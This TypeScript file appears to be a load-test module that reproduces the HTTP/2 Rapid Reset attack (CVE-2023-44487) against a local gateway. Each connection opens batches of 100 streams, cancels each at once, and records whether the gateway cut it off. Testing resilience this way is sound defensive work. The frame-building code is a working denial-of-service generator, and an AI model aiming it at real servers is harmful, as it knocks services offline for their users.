// Rapid resets: connections that open 100 streams and reset each at once, again and again
// (CVE-2023-44487).
import { closed, dialTls } from '../clients.ts';
import type { Load } from '../load.ts';
import {
  errorCode,
  fieldBlock,
  flag,
  frame,
  frameType,
  preface,
  uint32,
  type Fields,
} from '../../helpers/http2-frames.ts';

const batch = 100;
const batches = 20;
const betweenMs = 20;

export const load: Load = {
  name: 'http2-resets',
  rate: `1 connection each 2 s, with up to ${batches} writes of ${batch} requests and their resets, ${betweenMs} ms apart`,
  start(context) {
    const { random, key, count } = context;
    context.every({ perSecond: 0.5, atOnce: 4, timeoutMs: 10_000 }, async (signal) => {
      const localAddress = context.address(random.between(1, 4));
      const socket = await dialTls(context, { localAddress, alpn: 'h2' }, signal);
      const path = random.pick(['/health', '/peer/ending/', '/peer/uploads/early']);
      const fields: Fields = [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', 'localhost'],
        [':path', path],
        ['x-gateway-key', key],
      ];
      socket.resume().write(Buffer.concat([preface, frame(frameType.settings, 0, 0)]));
      let sent = 0;
      const timer = setInterval(() => {
        socket.write(resets(1 + 2 * sent, fields));
        sent += batch;
        if (sent >= batch * batches) socket.end();
      }, betweenMs);
      await closed(socket);
      clearInterval(timer);
      count('streams', sent);
      count(sent < batch * batches ? 'cut by the gateway' : 'to the end');
    });
  },
};

function resets(first: number, fields: Fields): Buffer {
  const block = fieldBlock(fields);
  const frames: Buffer[] = [];
  for (let stream = first; stream < first + 2 * batch; stream += 2) {
    frames.push(frame(frameType.headers, flag.endStream | flag.endHeaders, stream, block));
    frames.push(frame(frameType.reset, 0, stream, uint32(errorCode.cancel)));
  }
  return Buffer.concat(frames);
}
